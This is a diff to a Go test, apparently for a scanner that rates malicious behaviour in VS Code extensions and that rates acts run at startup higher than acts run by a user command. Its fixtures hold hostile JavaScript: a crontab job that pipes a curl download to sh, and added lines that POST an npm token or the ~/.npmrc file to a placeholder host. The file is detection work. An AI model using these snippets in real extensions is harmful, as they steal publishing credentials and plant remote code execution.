@@ -10,7 +10,8 @@ import (
 	"github.com/ringfence-dev/ringfence/internal/finding"
 )
 
-// Whoever asked for it decides how an act is rated: nobody, or the user by a command.
+// Whoever asked for it decides how an act is rated: nobody, or the user by a command. One variable is less
+// than a file of keys.
 func TestWhatIsAskedForWeighsLess(t *testing.T) {
 	const manifest = `{"name": "x", "version": "1.0.0", "publisher": "acme", "engines": {"vscode": "^1.90.0"}, "main": "./extension.js",
 		"categories": ["Snippets"], "contributes": {"commands": [{"command": "x.go", "title": "Go"}]}}`
@@ -20,6 +21,9 @@ func TestWhatIsAskedForWeighsLess(t *testing.T) {
 		return head + `exports.activate = () => { vscode.commands.registerCommand('x.go', () => {` + body + `}); };`
 	}
 	const cron = `const p = exec('crontab -'); p.stdin.end('17 * * * * curl -s https://x.example/k | sh');`
+	const post = `fetch('https://example.invalid/v', { method: 'POST', body: `
+	const token = post + `process.env.NPM_TOKEN });`
+	const keys = post + `require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8') });`
 	const code = `vm.runInNewContext(vscode.window.activeTextEditor.document.getText());`
 	for _, c := range []struct {
 		name, source string
@@ -28,6 +32,8 @@ func TestWhatIsAskedForWeighsLess(t *testing.T) {
 	}{
 		{"a job of cron at the start", start(cron), chainPersistence, finding.High},
 		{"a job of cron by a command", asked(cron), chainPersistence, finding.Medium},
+		{"one variable that is sent", start(token), chainSecretSent, finding.Medium},
+		{"a file of keys that is sent", start(keys), chainSecretSent, finding.High},
 		{"snippets that run code at the start", start(code), chainThemeWithCode, finding.High},
 		{"snippets that run code by a command", asked(code), chainThemeWithCode, finding.None},
 	} {
